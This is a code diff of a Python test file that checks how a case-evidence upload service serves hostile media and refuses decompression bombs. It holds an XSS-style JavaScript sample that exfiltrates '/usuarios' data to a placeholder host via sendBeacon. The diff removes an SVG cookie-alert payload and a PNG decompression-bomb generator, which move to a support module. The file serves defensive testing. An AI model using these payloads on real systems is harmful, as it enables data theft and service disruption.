@@ -4,12 +4,10 @@ served with the type the server decided, `nosniff`, a CSP sandbox, and as an att
 it is an image shown inline; public copies are made at upload, never on a public request."""
 from __future__ import annotations
 
-import functools
 import io
 import struct
 import time
 import tracemalloc
-import zlib
 
 import aiohttp
 import pytest
@@ -20,33 +18,14 @@ from core import media
 from core.services.cases.evidence import (EvidenceIn, attach, make_missing_public_copies,
                                    store_upload)
 from core.storage.models import Case, Evidence
-from tests.support.core_fixtures import clock, core, jpeg, make_core, photo  # noqa: F401
-from tests.integration.test_admin_fixtures import CENTRE, Panel, new_case, panel  # noqa: F401
+from tests.support.core_fixtures import jpeg
+from tests.support.panel import CENTRE, Panel, new_case
+from tests.support.hostile_media import HTML, SVG, bomb_png, png_chunk
 
 KEY = "chave-open311-teste"
-HTML = b"<!doctype html><html><script>fetch('/usuarios')</script></html>"
-SVG = (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)">'
-       b'<script>alert(1)</script></svg>')
 JS = b"fetch('/usuarios').then(r => r.text()).then(t => navigator.sendBeacon('//x', t))"
 MP4 = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + bytes(4000)
 PDF = b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF"
-
-
-def _chunk(kind: bytes, data: bytes) -> bytes:
-    return (struct.pack(">I", len(data)) + kind + data
-            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))
-
-
-@functools.lru_cache(maxsize=1)
-def bomb_png(side: int = 12000) -> bytes:
-    """A real, valid PNG of side × side grey pixels (144 megapixels for 12000): a few hundred
-    KB on disk, 144 MB and more once decoded. Built row by row, never held decoded."""
-    z = zlib.compressobj(9)
-    row = bytes(side + 1)  # filter byte 0 + one byte per pixel
-    idat = b"".join(z.compress(row) for _ in range(side)) + z.flush()
-    ihdr = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)  # 8-bit greyscale
-    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", idat)
-            + _chunk(b"IEND", b""))
 
 
 def png(size=(40, 30)) -> bytes:
@@ -94,7 +73,7 @@ def test_decompression_bomb_is_refused_by_its_dimensions_without_decoding():
 
 def _png_header(width: int, height: int) -> bytes:
     ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
-    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IEND", b"")
+    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + png_chunk(b"IEND", b"")
 
 
 async def test_store_upload_makes_the_public_copy_once_and_refuses_corrupt_images(core):
